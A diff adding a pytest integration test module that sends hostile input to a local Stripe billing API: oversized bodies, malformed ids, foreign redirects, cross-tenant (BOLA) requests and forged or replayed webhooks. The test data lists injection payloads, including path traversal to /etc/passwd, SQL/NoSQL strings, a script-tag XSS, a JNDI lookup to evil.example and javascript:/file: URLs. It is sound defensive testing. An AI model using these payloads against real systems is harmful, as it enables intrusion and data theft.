@@ -1,0 +1,732 @@
+"""Hostile input over real HTTP: oversized bodies, strange ids, foreign redirects, BOLA, forged
+webhooks. Every case must end in a clear 4xx (never a 5xx) and leave the tables as they were.
+
+Projects 501 (the attacker's key) and 502 (the victim, with a grant, an audit entry and a
+customer) are this module's own. Routes come from template.yaml, so a new route that is not
+covered here fails ``test_every_authenticated_route_of_the_template_is_covered``.
+"""
+
+from __future__ import annotations
+
+import http.client
+import json
+import os
+import time
+import uuid
+from collections.abc import Callable, Iterable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from typing import Any
+from urllib.parse import quote, urlencode, urlsplit
+
+import pytest
+import requests
+
+from billing.domain.webhook_signature import signature_header
+from local.config import REPO_ROOT, STANDIN_WEBHOOK_SECRET
+from local.template import ApiRoute, load_template
+from tests.integration.conftest import RunningStack, wait_for
+from tests.support import stripe_events
+
+pytestmark = pytest.mark.integration
+
+PROJECT, FOREIGN = "501", "502"
+ORIGIN, FOREIGN_ORIGIN = "https://app.example.com", "https://shop502.example.com"
+PRICE, FOREIGN_PRICE = "price_hostile_501", "price_hostile_502"
+USER, VICTIM = "user_hostile", "victim_502"
+WEBHOOK = "/api/v1/webhooks/stripe"
+API_GATEWAY_LIMIT = 10 * 1024 * 1024
+WEBHOOK_LIMIT = 131_072  # Settings.webhook_max_body_bytes' default
+EVENT_PREFIX = "evt_hostile_"
+
+ROUTES = load_template(REPO_ROOT / "template.yaml", "http://unused").routes
+AUTHENTICATED = [route for route in ROUTES if route.uses_authorizer]
+POST_ROUTES = [route for route in ROUTES if route.method == "POST"]
+
+
+def route_id(route: ApiRoute) -> str:
+    return f"{route.method} {route.path}"
+
+
+# ------------------------------------------------------------------ requests of each route
+@dataclass(frozen=True)
+class Call:
+    """One request: method, path, query and JSON body (or raw bytes)."""
+
+    method: str
+    path: str
+    query: dict[str, str] = field(default_factory=dict)
+    body: Any = None
+
+    def send(self, stack: RunningStack, key: str | None, **headers: str) -> requests.Response:
+        if key is not None:
+            headers["X-API-Key"] = key
+        data = None
+        if self.body is not None:
+            data = self.body if isinstance(self.body, bytes) else json.dumps(self.body).encode()
+            headers.setdefault("Content-Type", "application/json")
+        # Lone surrogates go out as the bytes they would be (invalid UTF-8), not as an error.
+        query = urlencode(self.query, quote_via=quote, errors="surrogatepass")
+        return requests.request(
+            self.method,
+            f"{stack.url}{self.path}" + (f"?{query}" if query else ""),
+            data=data,
+            headers=headers,
+            timeout=60,
+        )
+
+
+def valid_call(route: ApiRoute, project: str, user: str = USER) -> Call:
+    """A plausible request of ``route`` for ``project`` (every authenticated route has one)."""
+    origin, price = (ORIGIN, PRICE) if project == PROJECT else (FOREIGN_ORIGIN, FOREIGN_PRICE)
+    people = {"user_id": user, "project_id": project}
+    calls: dict[tuple[str, str], Call] = {
+        ("POST", "/api/v1/checkout/session"): Call(
+            "POST",
+            route.path,
+            body={
+                **people,
+                "price_id": price,
+                "mode": "subscription",
+                "success_url": f"{origin}/ok",
+                "cancel_url": f"{origin}/cancel",
+            },
+        ),
+        ("POST", "/api/v1/portal/session"): Call(
+            "POST", route.path, body={**people, "return_url": f"{origin}/account"}
+        ),
+        ("GET", "/api/v1/portal/eligibility"): Call("GET", route.path, query=people),
+        ("GET", "/api/v1/entitlements"): Call("GET", route.path, query=people),
+        ("GET", "/api/v1/entitlements/check"): Call(
+            "GET", route.path, query={**people, "feature_code": "pro"}
+        ),
+        ("POST", "/api/v1/admin/grant"): Call(
+            "POST",
+            route.path,
+            body={**people, "feature_code": "pro", "granted_by": "support", "reason": "test"},
+        ),
+        ("POST", "/api/v1/admin/revoke"): Call(
+            "POST",
+            route.path,
+            body={**people, "feature_code": "pro", "revoked_by": "support", "reason": "test"},
+        ),
+        ("GET", "/api/v1/admin/audit"): Call("GET", route.path, query=people),
+        ("GET", "/api/v1/metrics/project/{project_id}/subscriptions"): Call(
+            "GET", route.path.replace("{project_id}", project)
+        ),
+        ("GET", "/api/v1/metrics/project/{project_id}/revenue"): Call(
+            "GET", route.path.replace("{project_id}", project)
+        ),
+    }
+    return calls[(route.method, route.path)]
+
+
+def with_field(call: Call, name: str, value: Any, route: ApiRoute) -> Call:
+    """``call`` with ``name`` set to ``value`` wherever the route takes it."""
+    if "{" + name + "}" in route.path:
+        text = value if isinstance(value, str) else json.dumps(value)
+        return Call(
+            call.method,
+            route.path.replace("{" + name + "}", quote(text, safe="", errors="surrogatepass")),
+        )
+    if call.method == "GET":
+        return Call(call.method, call.path, {**call.query, name: value})
+    return Call(call.method, call.path, call.query, {**call.body, name: value})
+
+
+def fields_of(route: ApiRoute) -> set[str]:
+    call = valid_call(route, PROJECT)
+    names = set(call.query) | set(call.body or {})
+    return names | ({"project_id"} if "{project_id}" in route.path else set())
+
+
+# ------------------------------------------------------------------ what is stored
+MINE = (f"{PROJECT}#", f"{FOREIGN}#")
+
+
+def _mine(table: str, item: dict[str, Any]) -> bool:
+    def text(name: str) -> str:
+        return str(item.get(name, {}).get("S", ""))
+
+    if table == "WebhookEventsTable":
+        return text("event_id").startswith(EVENT_PREFIX)
+    if text("project_id") in (PROJECT, FOREIGN):
+        return True
+    return text("project_user").startswith(MINE)
+
+
+TABLES = (
+    "ProjectsTable",
+    "PricesTable",
+    "EntitlementsTable",
+    "AuditTable",
+    "CustomersTable",
+    "StripeObjectsTable",
+    "WebhookEventsTable",
+)
+
+
+def stored(stack: RunningStack) -> dict[str, list[str]]:
+    """Every item of the tables requests can write that belongs to projects 501/502 (or to this
+    module's webhook events), as canonical JSON: equal snapshots mean nothing was written."""
+    dynamodb = stack.dynamodb()
+    snapshot: dict[str, list[str]] = {}
+    for table in TABLES:
+        items: list[str] = []
+        for page in dynamodb.get_paginator("scan").paginate(TableName=table):
+            items += [
+                json.dumps(item, sort_keys=True)
+                for item in page["Items"]
+                if _mine(table, dict(item))
+            ]
+        snapshot[table] = sorted(items)
+    return snapshot
+
+
+def send_all(
+    stack: RunningStack, key: str | None, calls: Iterable[Call]
+) -> list[tuple[Call, requests.Response]]:
+    """Send the calls (four at a time: the stack's concurrency) and pair them with answers."""
+    listed = list(calls)
+    with ThreadPoolExecutor(max_workers=4) as pool:
+        answers = list(pool.map(lambda call: call.send(stack, key), listed))
+    return list(zip(listed, answers, strict=True))
+
+
+def named(response: requests.Response, name: str) -> bool:
+    """Whether the error body names the field ``name``."""
+    body = response.json()
+    fields = [str(error.get("field")) for error in body.get("errors", [])]
+    return name in fields or name in str(body.get("message", ""))
+
+
+def problems(
+    answers: list[tuple[Call, requests.Response]],
+    expect: Callable[[requests.Response], bool],
+) -> list[str]:
+    return [
+        f"{call.method} {call.path} query={call.query!r} body={call.body!r:.300}"
+        f" -> {response.status_code} {response.text[:300]}"
+        for call, response in answers
+        if not expect(response)
+    ]
+
+
+# ------------------------------------------------------------------ fixture
+@dataclass(frozen=True)
+class Tenants:
+    stack: RunningStack
+    key: str
+    foreign_key: str
+
+
+def standin_price(stack: RunningStack, price_id: str) -> None:
+    response = requests.post(
+        f"http://127.0.0.1:{stack.env['LOCAL_STRIPE_PORT']}/_standin/prices",
+        json={
+            "id": price_id,
+            "unit_amount": 900,
+            "currency": "usd",
+            "recurring": {"interval": "month", "interval_count": 1},
+        },
+        timeout=10,
+    )
+    assert response.status_code in (200, 201), response.text
+
+
+@pytest.fixture(scope="module")
+def tenants(stack: RunningStack) -> Tenants:
+    """Projects 501 and 502 with an allowed origin, a price and a key each; 502's victim has a
+    manual grant (entitlement + audit entry) and a Stripe customer, so there is data to steal."""
+    keys = {}
+    for project, origin, price in (
+        (PROJECT, ORIGIN, PRICE),
+        (FOREIGN, FOREIGN_ORIGIN, FOREIGN_PRICE),
+    ):
+        stack.admin(
+            "project", "create", "--id", project, "--name", f"hostile_{project}", "--origin", origin
+        )
+        stack.admin(
+            "price", "add", "--project", project, "--price", price, "--feature", "pro",
+            "--amount", "900", "--currency", "usd", "--interval", "month",
+        )  # fmt: skip
+        standin_price(stack, price)
+        keys[project] = stack.admin("app", "create", "--project", project, "--name", "hostile")[
+            "api_key"
+        ]
+    found = Tenants(stack, keys[PROJECT], keys[FOREIGN])
+    by_path = {route.path: route for route in AUTHENTICATED}
+    for path in ("/api/v1/admin/grant", "/api/v1/checkout/session"):
+        response = valid_call(by_path[path], FOREIGN, VICTIM).send(stack, found.foreign_key)
+        assert response.status_code in (200, 201), response.text
+    return found
+
+
+# ------------------------------------------------------------------ coverage
+def test_every_authenticated_route_of_the_template_is_covered(tenants: Tenants) -> None:
+    """Every route behind the authorizer in template.yaml has a request here, and that request,
+    sent with the project's own key, passes tenancy and validation (so the hostile variants
+    below differ from it in the hostile field only)."""
+    for route in AUTHENTICATED:
+        call = valid_call(route, PROJECT)  # KeyError: a route this module does not know
+        if route.path.endswith(("/grant", "/revoke", "/checkout/session")):
+            continue  # these write: their hostile variants are checked against the tables
+        response = call.send(tenants.stack, tenants.key)
+        assert response.status_code in (200, 404), (route_id(route), response.text)
+    assert {r.path for r in POST_ROUTES} >= {WEBHOOK, "/api/v1/admin/grant"}
+
+
+# ------------------------------------------------------------------ oversized bodies
+@pytest.mark.parametrize("route", POST_ROUTES, ids=route_id)
+def test_a_body_over_api_gateways_10_mib_is_413_on_every_post_route(
+    tenants: Tenants, route: ApiRoute
+) -> None:
+    """A body one byte over API Gateway's 10 MiB is refused with 413 before any handler runs,
+    on every POST route of the template; nothing is stored."""
+    stack = tenants.stack
+    before = stored(stack)
+    body = b'{"pad":"' + b"x" * (API_GATEWAY_LIMIT - 9) + b'"}'
+    assert len(body) == API_GATEWAY_LIMIT + 1
+    response = Call("POST", route.path, body=body).send(stack, tenants.key)
+    assert response.status_code == 413, response.text[:300]
+    assert response.json() == {"message": "Request Too Long"}
+    assert stored(stack) == before
+
+
+LIMITS: dict[str, dict[str, Any]] = {
+    "/api/v1/checkout/session": {
+        "user_id": "u" * 129,
+        "price_id": "price_" + "x" * 250,
+        "success_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
+        "cancel_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
+        "quantity": 101,
+        "trial_days": 731,
+    },
+    "/api/v1/portal/session": {
+        "user_id": "u" * 129,
+        "return_url": f"{ORIGIN}/" + "x" * (2049 - len(ORIGIN) - 1),
+    },
+    "/api/v1/admin/grant": {
+        "user_id": "u" * 129,
+        "feature_code": "f" * 65,
+        "granted_by": "g" * 129,
+        "reason": "r" * 501,
+    },
+    "/api/v1/admin/revoke": {
+        "user_id": "u" * 129,
+        "feature_code": "f" * 65,
+        "revoked_by": "g" * 129,
+        "reason": "r" * 501,
+    },
+}
+
+
+@pytest.mark.parametrize("route", [r for r in POST_ROUTES if r.path != WEBHOOK], ids=route_id)
+def test_each_field_just_over_the_services_limit_is_422_naming_it(
+    tenants: Tenants, route: ApiRoute
+) -> None:
+    """Every bounded field of every authenticated POST route, one unit over its limit (length
+    or value), is refused with 422 naming that field; nothing is stored."""
+    stack = tenants.stack
+    before = stored(stack)
+    base = valid_call(route, PROJECT)
+    calls = {
+        name: with_field(base, name, value, route) for name, value in LIMITS[route.path].items()
+    }
+    answers = dict(zip(calls, send_all(stack, tenants.key, calls.values()), strict=True))
+    wrong = [
+        f"{name}: {response.status_code} {response.text[:200]}"
+        for name, (_, response) in answers.items()
+        if response.status_code != 422 or not named(response, name)
+    ]
+    assert wrong == []
+    assert stored(stack) == before
+
+
+def test_a_webhook_body_just_over_the_receivers_limit_is_413_even_when_signed(
+    tenants: Tenants,
+) -> None:
+    """A correctly signed webhook body one byte over the receiver's 128 KiB is 413 and never
+    reaches the queue (no WebhookEvents record appears for it)."""
+    stack = tenants.stack
+    event = json.loads(signed_event("oversized"))
+    event["pad"] = ""
+    raw = json.dumps(event).encode()
+    event["pad"] = "x" * (WEBHOOK_LIMIT + 1 - len(raw))
+    body = json.dumps(event).encode()
+    assert len(body) == WEBHOOK_LIMIT + 1
+    response = deliver(stack, body, signature_header(body, STANDIN_WEBHOOK_SECRET, now()))
+    assert response.status_code == 413, response.text
+    assert_never_recorded(stack, {f"{EVENT_PREFIX}oversized"})
+
+
+# ------------------------------------------------------------------ hostile strings
+HOSTILE_STRINGS: dict[str, str] = {
+    "unicode": "ユーザー42",
+    "emoji": "user_\U0001f600",
+    "rtl-override": "user\u202e42",
+    "zero-width": "user\u200b42",
+    "nul": "user\x0042",
+    "newline-inside": "us\ner",
+    "ansi-escape": "user\x1b[31m",
+    "lone-surrogate": "user\ud800",
+    "fullwidth-digits": "\uff15\uff10\uff11",
+    "very-long": "u" * 20_000,
+    "path-traversal": "../../etc/passwd",
+    "encoded-traversal": "..%2F..%2Fetc%2Fpasswd",
+    "sql": "' OR '1'='1' --",
+    "nosql": '{"$ne": null}',
+    "key-separator": "1#other_user",
+    "foreign-key-separator": f"{FOREIGN}#{VICTIM}",
+    "pipe-separator": "user|admin",
+    "html": "<script>alert(1)</script>",
+    "jndi": "${jndi:ldap://evil.example/a}",
+    "whitespace-only": "   ",
+    "empty": "",
+}
+HOSTILE_PROJECT_IDS: dict[str, Any] = {
+    **{k: v for k, v in HOSTILE_STRINGS.items() if k != "fullwidth-digits"},
+    "fullwidth-501": "\uff15\uff10\uff11",
+    "hash-suffix": f"{PROJECT}#{FOREIGN}",
+    "pipe-suffix": f"{PROJECT}|{FOREIGN}",
+    "sql-suffix": f"{PROJECT} OR 1=1",
+    "traversal-to-foreign": f"../{FOREIGN}",
+    "nul-suffix": f"{PROJECT}\x00",
+    "negative": f"-{PROJECT}",
+    "exponent": "5.01e2",
+    "hex": "0x1f5",
+    "zero": "0",
+    "too-many-digits": "9" * 30,
+}
+HOSTILE_BODY_PROJECT_IDS: dict[str, Any] = {
+    **HOSTILE_PROJECT_IDS,
+    "null": None,
+    "true": True,
+    "float": 501.5,
+    "list": [int(PROJECT)],
+    "object": {"$ne": 0},
+    "huge-int": 2**70,
+}
+
+
+def hostile_values(route: ApiRoute, name: str) -> dict[str, Any]:
+    if name != "project_id":
+        return HOSTILE_STRINGS
+    return HOSTILE_BODY_PROJECT_IDS if route.method == "POST" else HOSTILE_PROJECT_IDS
+
+
+# (route path, field): the answer is a 404 naming the field instead of 422 (a string the
+# service looks up rather than validates: an unknown price is just not registered).
+LOOKED_UP = {("/api/v1/checkout/session", "price_id"): "price"}
+# Fields compared, never stored or looked up, are left out: see the report on
+# /api/v1/entitlements/check's feature_code.
+NOT_VALIDATED = {("/api/v1/entitlements/check", "feature_code")}
+
+GATEWAY_REFUSALS = (
+    "Missing Authentication Token",
+    "User is not authorized to access this resource",
+)
+
+HOSTILE_CASES = [
+    pytest.param(route, name, id=f"{route_id(route)} {name}")
+    for route in AUTHENTICATED
+    for name in sorted(fields_of(route) & {"user_id", "project_id", "price_id", "feature_code"})
+    if (route.path, name) not in NOT_VALIDATED
+]
+
+
+@pytest.mark.parametrize(("route", "name"), HOSTILE_CASES)
+def test_hostile_ids_are_refused_naming_the_field_and_store_nothing(
+    tenants: Tenants, route: ApiRoute, name: str
+) -> None:
+    """Unicode, control characters, NUL, lone surrogates, very long strings, path traversal,
+    SQL/NoSQL strings and the `#`/`|` separators of the DynamoDB keys, in every id field of
+    every authenticated route (body, query or path): a 4xx naming the field (422; 404 for a
+    price id, which is looked up; in a path, API Gateway's own 403 when the value leaves no
+    route to match), never a 5xx, and the tables are unchanged."""
+    stack = tenants.stack
+    before = stored(stack)
+    base = valid_call(route, PROJECT)
+    values = hostile_values(route, name)
+    calls = [with_field(base, name, value, route) for value in values.values()]
+    answers = send_all(stack, tenants.key, calls)
+    word = LOOKED_UP.get((route.path, name))
+    in_path = "{" + name + "}" in route.path
+
+    def refused(response: requests.Response) -> bool:
+        if word is not None and response.status_code == 404:
+            return word in response.json()["message"]
+        if in_path and response.status_code == 403:
+            # A value holding "/" (or nothing) makes a path no route serves; a newline one
+            # the authorizer's policy does not cover: API Gateway's own 403, no handler runs.
+            return response.json()["message"] in GATEWAY_REFUSALS
+        return response.status_code == 422 and named(response, name)
+
+    assert problems(answers, refused) == []
+    assert stored(stack) == before
+
+
+# ------------------------------------------------------------------ redirects
+FOREIGN_REDIRECTS = {
+    "foreign-origin": "https://evil.example/ok",
+    "other-projects-origin": f"{FOREIGN_ORIGIN}/ok",
+    "suffix-domain": "https://app.example.com.evil.example/ok",
+    "userinfo-allowed-at-evil": "https://app.example.com@evil.example/ok",
+    "userinfo-evil-at-allowed": "https://evil.example@app.example.com/ok",
+    "backslash-userinfo": "https://app.example.com\\@evil.example/ok",
+    "protocol-relative": "//evil.example/ok",
+    "scheme-relative-path": "/\\evil.example/ok",
+    "javascript": "javascript:alert(document.cookie)",
+    "javascript-padded": "  javascript:alert(1)//https://app.example.com/",
+    "data": "data:text/html,<script>alert(1)</script>",
+    "http-downgrade": "http://app.example.com/ok",
+    "other-port": "https://app.example.com:8443/ok",
+    "upper-case-foreign": "HTTPS://EVIL.EXAMPLE/",
+    "single-slash": "https:/evil.example/ok",
+    "no-host": "https:///ok",
+    "punycode-lookalike": "https://xn--pp-example-k7a.com/ok",
+    "file": "file:///etc/passwd",
+    "port-out-of-range": "https://app.example.com:99999/ok",
+    "port-not-a-number": "https://app.example.com:abc/ok",
+    "unclosed-ipv6": "https://[::1/ok",
+    "fullwidth-hash-in-host": "https://app.example.com\uff03@evil.example/ok",
+}
+REDIRECT_FIELDS = [
+    ("/api/v1/checkout/session", "success_url"),
+    ("/api/v1/checkout/session", "cancel_url"),
+    ("/api/v1/portal/session", "return_url"),
+]
+
+
+@pytest.mark.parametrize(("path", "name"), REDIRECT_FIELDS, ids=[f for _, f in REDIRECT_FIELDS])
+def test_redirects_off_the_projects_origins_are_422_and_store_nothing(
+    tenants: Tenants, path: str, name: str
+) -> None:
+    """success_url, cancel_url and return_url to foreign origins, another project's origin,
+    javascript:/data:/file: URLs, userinfo tricks, protocol-relative and host-less URLs, http
+    downgrades, other ports and URLs Python's urlsplit refuses (bad port, unclosed IPv6, a host
+    NFKC would change): 422 naming the field; no customer or session is stored."""
+    stack = tenants.stack
+    route = next(r for r in AUTHENTICATED if r.path == path)
+    base = valid_call(route, PROJECT, user=f"user_{uuid.uuid4().hex[:8]}")
+    before = stored(stack)
+    calls = [with_field(base, name, url, route) for url in FOREIGN_REDIRECTS.values()]
+    answers = send_all(stack, tenants.key, calls)
+    assert problems(answers, lambda r: r.status_code == 422 and named(r, name)) == []
+    assert stored(stack) == before
+    # The same request with the project's own origin goes through (so the test can fail).
+    allowed = with_field(base, name, f"{ORIGIN}/fine?next=%2F%2Fevil.example", route)
+    assert allowed.send(stack, tenants.key).status_code in (200, 404)
+
+
+# ------------------------------------------------------------------ BOLA
+FOREIGN_ID_FORMS: dict[str, Any] = {
+    "int": int(FOREIGN),
+    "string": FOREIGN,
+    "padded": f" {FOREIGN} ",
+    "leading-zeros": f"000{FOREIGN}",
+}
+
+
+@pytest.mark.parametrize("route", AUTHENTICATED, ids=route_id)
+def test_another_projects_ids_with_my_key_are_403_and_nothing_is_read_or_written(
+    tenants: Tenants, route: ApiRoute
+) -> None:
+    """BOLA: project 501's key, on every authenticated route of the template, with project
+    502's request (its project id in every form that means 502, its victim user, its price,
+    its origin): 403 "Project ID does not match" and nothing else in the body (nothing of 502's
+    read), and the tables unchanged (nothing written)."""
+    stack = tenants.stack
+    before = stored(stack)
+    victim_call = valid_call(route, FOREIGN, VICTIM)
+    calls = [
+        with_field(victim_call, "project_id", form, route) for form in FOREIGN_ID_FORMS.values()
+    ]
+    answers = send_all(stack, tenants.key, calls)
+    expected = {"message": "Project ID does not match"}
+    assert problems(answers, lambda r: r.status_code == 403 and r.json() == expected) == []
+    assert stored(stack) == before
+
+
+@pytest.mark.parametrize(
+    "route", [r for r in AUTHENTICATED if r.method == "GET" and "{" not in r.path], ids=route_id
+)
+def test_a_duplicated_project_id_query_never_reads_the_other_project(
+    tenants: Tenants, route: ApiRoute
+) -> None:
+    """`?project_id=502&project_id=501` (and the reverse) with 501's key: refused, or answered
+    from 501's data; never 502's victim's grant or audit entry."""
+    stack = tenants.stack
+    for order in ((FOREIGN, PROJECT), (PROJECT, FOREIGN)):
+        query = "&".join(f"project_id={p}" for p in order)
+        extra = "&feature_code=pro" if route.path.endswith("/check") else ""
+        response = requests.get(
+            f"{stack.url}{route.path}?user_id={VICTIM}&{query}{extra}",
+            headers={"X-API-Key": tenants.key},
+            timeout=30,
+        )
+        assert response.status_code in (200, 403, 422), response.text
+        if response.status_code == 200:
+            body = response.json()
+            assert body.get("entitlements", []) == [], body
+            assert body.get("items", []) == [], body
+            assert body.get("active", False) is False, body
+            assert body.get("eligible", False) is False, body
+
+
+def test_the_victims_data_is_there_for_its_own_key(tenants: Tenants) -> None:
+    """The control of the BOLA tests: 502's own key reads its victim's grant, so an empty or
+    refused answer to 501's key is isolation, not an empty table."""
+    by_path = {route.path: route for route in AUTHENTICATED}
+    response = valid_call(by_path["/api/v1/entitlements"], FOREIGN, VICTIM).send(
+        tenants.stack, tenants.foreign_key
+    )
+    assert response.status_code == 200
+    assert [e["feature_code"] for e in response.json()["entitlements"]] == ["pro"]
+    eligibility = valid_call(by_path["/api/v1/portal/eligibility"], FOREIGN, VICTIM)
+    assert eligibility.send(tenants.stack, tenants.foreign_key).json()["eligible"] is True
+
+
+# ------------------------------------------------------------------ webhooks
+def now() -> int:
+    return int(time.time())
+
+
+def signed_event(tag: str) -> str:
+    subscription = stripe_events.subscription(
+        f"sub_hostile_{tag}", metadata={"project_id": "999999", "user_id": "nobody"}
+    )
+    return stripe_events.event(
+        "customer.subscription.updated", subscription, now(), event_id=f"{EVENT_PREFIX}{tag}"
+    )
+
+
+def deliver(stack: RunningStack, body: bytes, *signatures: str) -> requests.Response:
+    """POST a delivery with zero, one or several Stripe-Signature header lines."""
+    split = urlsplit(stack.url)
+    connection = http.client.HTTPConnection(split.hostname or "127.0.0.1", split.port, timeout=60)
+    try:
+        connection.putrequest("POST", WEBHOOK)
+        connection.putheader("Content-Type", "application/json")
+        connection.putheader("Content-Length", str(len(body)))
+        for signature in signatures:
+            connection.putheader("Stripe-Signature", signature)
+        connection.endheaders(body)
+        answer = connection.getresponse()
+        response = requests.Response()
+        response.status_code = answer.status
+        response._content = answer.read()
+        return response
+    finally:
+        connection.close()
+
+
+def recorded_events(stack: RunningStack) -> set[str]:
+    return {json.loads(item)["event_id"]["S"] for item in stored(stack)["WebhookEventsTable"]}
+
+
+def assert_never_recorded(stack: RunningStack, event_ids: set[str]) -> None:
+    """Deliver a correctly signed marker event, wait until the consumer recorded it (so anything
+    enqueued before it had its chance too), then check that none of ``event_ids`` was."""
+    marker = signed_event(f"marker_{uuid.uuid4().hex[:8]}")
+    raw = marker.encode()
+    response = deliver(stack, raw, signature_header(raw, STANDIN_WEBHOOK_SECRET, now()))
+    assert response.status_code == 200, response.text
+    marker_id = json.loads(marker)["id"]
+    assert wait_for(lambda: marker_id in recorded_events(stack), 30), "the marker never arrived"
+    assert recorded_events(stack) & event_ids == set()
+
+
+def test_forged_malformed_and_replayed_webhooks_are_400_and_nothing_is_enqueued(
+    tenants: Tenants,
+) -> None:
+    """Missing, empty, garbled (non-ASCII v1, non-ASCII or 5000-digit t) and duplicated
+    Stripe-Signature headers, a wrong secret, a
+    signature of another body, a correctly signed event replayed 10 minutes later (or dated
+    10 minutes ahead, or with a fresh `t=` appended), random bodies: each 400 "invalid
+    signature", and none of their events is ever recorded by the consumer, while a correctly
+    signed event right after is accepted and recorded."""
+    stack = tenants.stack
+    secret = STANDIN_WEBHOOK_SECRET
+    event = signed_event("forged").encode()
+    other = signed_event("other").encode()
+    t = now()
+    good = signature_header(event, secret, t)
+    v1 = good.split("v1=")[1]
+    stale = signature_header(event, secret, t - 600)
+    cases: dict[str, tuple[bytes, tuple[str, ...]]] = {
+        "no header": (event, ()),
+        "empty header": (event, ("",)),
+        "garbage": (event, ("garbage",)),
+        "no v1": (event, (f"t={t}",)),
+        "no t": (event, (f"v1={v1}",)),
+        "t not a number": (event, (f"t=abc,v1={v1}",)),
+        "empty v1": (event, (f"t={t},v1=",)),
+        "v0 only": (event, (f"t={t},v0={v1}",)),
+        "truncated v1": (event, (f"t={t},v1={v1[:-1]}",)),
+        "non-ascii v1": (event, (f"t={t},v1={v1[:-1]}é",)),
+        "superscript t": (event, (f"t=\u00b2,v1={v1}",)),
+        "5000-digit t": (event, (f"t={'9' * 5000},v1={v1}",)),
+        "wrong secret": (event, (signature_header(event, "whsec_wrong", t),)),
+        "secret as prefix": (event, (signature_header(event, secret + "x", t),)),
+        "another body's signature": (event, (signature_header(other, secret, t),)),
+        "body changed after signing": (event.replace(b"nobody", b"somebody"), (good,)),
+        "replayed 10 minutes later": (event, (stale,)),
+        "dated 10 minutes ahead": (event, (signature_header(event, secret, t + 600),)),
+        "stale with a fresh t appended": (event, (f"{stale},t={t}",)),
+        "two bad headers": (event, ("garbage", signature_header(event, "whsec_wrong", t))),
+        "two headers, one stale": (event, ("garbage", stale)),
+        "random body, no header": (os.urandom(512), ()),
+        "random body, another's signature": (os.urandom(512), (good,)),
+        "empty body": (b"", (good,)),
+    }
+    before = stored(stack)
+    wrong = []
+    for name, (body, signatures) in cases.items():
+        response = deliver(stack, body, *signatures)
+        ok = response.status_code == 400 and response.json()["message"].startswith(
+            "invalid signature"
+        )
+        if not ok:
+            wrong.append(f"{name}: {response.status_code} {response.text[:200]}")
+    assert wrong == []
+    assert stored(stack) == before
+    assert_never_recorded(stack, {f"{EVENT_PREFIX}forged", f"{EVENT_PREFIX}other"})
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"<xml>not json</xml>",
+        b"[1, 2, 3]",
+        b'{"object": "event"}',
+        b'{"id": "evt_hostile_x", "object": "event", "type": "t", "created": -1, "data": {}}',
+        "{}".encode("utf-16"),
+        b"\xff\xfe\x00garbage",
+        b"[" * 100_000,
+    ],
+    ids=["xml", "array", "no id", "negative created", "utf-16", "not utf-8", "deep nesting"],
+)
+def test_correctly_signed_bodies_that_are_not_events_are_400(tenants: Tenants, body: bytes) -> None:
+    """A body signed with the right secret but not a Stripe event (not JSON, not UTF-8, an
+    array, missing fields, nested 100k deep) is 400, not a 5xx, and is not enqueued."""
+    stack = tenants.stack
+    before = stored(stack)
+    response = deliver(stack, body, signature_header(body, STANDIN_WEBHOOK_SECRET, now()))
+    assert response.status_code == 400, response.text[:300]
+    assert stored(stack) == before
+
+
+def test_a_correctly_signed_event_is_accepted_and_recorded_once(tenants: Tenants) -> None:
+    """The control of the webhook tests: a correctly signed event is 200 and recorded by the
+    consumer; the same delivery again (inside the tolerance) is 200 and still one record."""
+    stack = tenants.stack
+    body = signed_event(f"good_{uuid.uuid4().hex[:8]}").encode()
+    header = signature_header(body, STANDIN_WEBHOOK_SECRET, now())
+    event_id = json.loads(body)["id"]
+    for _ in range(2):
+        response = deliver(stack, body, header)
+        assert response.status_code == 200, response.text
+        assert response.json() == {"received": True, "id": event_id}
+    assert wait_for(lambda: event_id in recorded_events(stack), 30)
+    assert sorted(recorded_events(stack)).count(event_id) == 1
